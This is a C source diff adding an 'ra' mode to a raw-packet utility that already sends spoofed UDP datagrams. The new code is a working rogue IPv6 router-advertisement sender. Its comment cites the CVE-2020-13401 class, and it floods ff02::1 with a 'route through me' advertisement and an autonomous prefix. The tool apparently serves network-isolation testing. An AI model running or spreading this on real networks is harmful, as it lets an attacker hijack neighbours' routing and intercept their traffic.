@@ -5,6 +5,11 @@
  *   rawudp send IFACE GW SRC DST PORT MSG
  *       one IPv4/UDP datagram SRC -> DST:PORT carrying MSG, in an
  *       Ethernet frame to GW's MAC (from ARP) on IFACE (AF_PACKET)
+ *   rawudp ra IFACE
+ *       router advertisements to every node on IFACE's link (ff02::1):
+ *       "route through me", with the prefix 2001:db8:bad::/64 to take
+ *       addresses from (CVE-2020-13401 class), a few over 3 s while the
+ *       link-local address leaves DAD
  *   rawudp recv IP PORT SECONDS
  *       print the first datagram that reaches IP:PORT within SECONDS
  *       ("from A.B.C.D: MSG"), nothing if none does
@@ -132,12 +137,41 @@ static int recv_one(char **argv)
 	return 0;
 }
 
+static int send_ra(const char *iface)
+{
+	static const uint8_t ra[] = {
+		134, 0, 0, 0,              /* router advertisement; checksum by the kernel */
+		64, 0, 0x07, 0x08,         /* hop limit, flags, router lifetime 1800 s */
+		0, 0, 0, 0, 0, 0, 0, 0,    /* reachable, retransmit */
+		3, 4, 64, 0xc0,            /* prefix information: /64, on-link, autonomous */
+		0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0, /* lifetimes 3600 s */
+		0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+	};
+	struct sockaddr_in6 all = { .sin6_family = AF_INET6 };
+	int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6), hops = 255, sent = 0;
+	unsigned idx = if_nametoindex(iface);
+
+	if (fd < 0)
+		return perror("socket(ICMPV6)"), 1;
+	if (!idx)
+		return perror(iface), 1;
+	inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
+	all.sin6_scope_id = idx;
+	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops));
+	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &idx, sizeof(idx));
+	for (int i = 0; i < 10; i++, usleep(300000))
+		sent += sendto(fd, ra, sizeof(ra), 0, (struct sockaddr *)&all, sizeof(all)) > 0;
+	return !sent;
+}
+
 int main(int argc, char **argv)
 {
 	if (argc == 8 && !strcmp(argv[1], "send"))
 		return send_raw(argv + 1);
+	if (argc == 3 && !strcmp(argv[1], "ra"))
+		return send_ra(argv[2]);
 	if ((argc == 5 || argc == 6) && !strcmp(argv[1], "recv"))
 		return recv_one(argv + 1);
-	fprintf(stderr, "usage: rawudp send IFACE MAC SRC DST PORT MSG | rawudp recv IP PORT SECONDS [READY]\n");
+	fprintf(stderr, "usage: rawudp send IFACE GW SRC DST PORT MSG | rawudp ra IFACE | rawudp recv IP PORT SECONDS [READY]\n");
 	return 2;
 }
